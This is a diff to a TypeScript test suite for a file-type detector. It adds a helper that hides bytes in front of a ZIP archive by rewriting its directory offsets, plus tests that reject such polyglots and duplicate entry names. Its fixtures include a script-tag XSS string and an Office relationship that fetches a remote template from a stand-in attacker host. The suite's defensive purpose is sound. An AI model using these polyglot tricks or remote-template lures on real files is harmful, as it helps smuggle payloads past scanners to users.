@@ -13,6 +13,17 @@ const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.
 const FETCHED =
   '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
 
+/** An archive whose files begin so many bytes later, behind something that no directory speaks of. */
+function behind(prefix: Buffer, archive: Buffer): Buffer {
+  const moved = Buffer.concat([prefix, archive])
+  const end = moved.length - 22
+  const start = moved.readUInt32LE(end + 16) + prefix.length
+  moved.writeUInt32LE(start, end + 16)
+  for (let at = start; at < end; at += 46 + moved.readUInt16LE(at + 28))
+    moved.writeUInt32LE(moved.readUInt32LE(at + 42) + prefix.length, at + 42)
+  return moved
+}
+
 describe('what a file is', () => {
   it('is a PDF by its beginning and its end, whatever stands between', () => {
     expect(kindOf(aPdf())).toBe('pdf')
@@ -64,6 +75,12 @@ describe('what a file is', () => {
     const archive = Buffer.concat([aZip({ 'a.js': 'x' }), comment])
     archive.writeUInt16LE(comment.length, archive.length - comment.length - 2)
     expect(kindOf(Buffer.concat([Buffer.from('%PDF-1.4\n'), archive]))).toBe('broken')
+  })
+
+  it('is nothing where something stands before the archive, or a name stands twice in it', () => {
+    expect(kindOf(behind(Buffer.alloc(0), aDocx()))).toBe('docx')
+    expect(kindOf(behind(Buffer.from('PK<script>alert(1)</script>'), aDocx()))).toBe('broken')
+    expect(kindOf(aDocx({ 'word/DOCUMENT.xml': '<x/>' }))).toBe('broken')
   })
 
   it('is nothing where the archive and its directory name a file differently', () => {
